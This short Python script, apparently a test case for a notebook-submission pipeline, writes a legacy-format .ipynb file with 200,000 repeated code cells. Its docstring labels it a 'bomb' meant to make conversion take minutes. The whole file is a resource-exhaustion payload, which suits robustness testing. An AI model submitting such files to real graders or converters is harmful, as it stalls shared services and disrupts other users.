"""tries: hand in a notebook whose conversion takes minutes

after: folder
bomb: yes
"""

cells = '{"cell_type": "code", "input": "x", "outputs": [], "language": "python"},' * 200_000
with open("speech_commands.ipynb", "w") as file:
    file.write('{"nbformat": 3, "metadata": {}, "worksheets": [{"cells": [' + cells[:-1] + "]}]}")
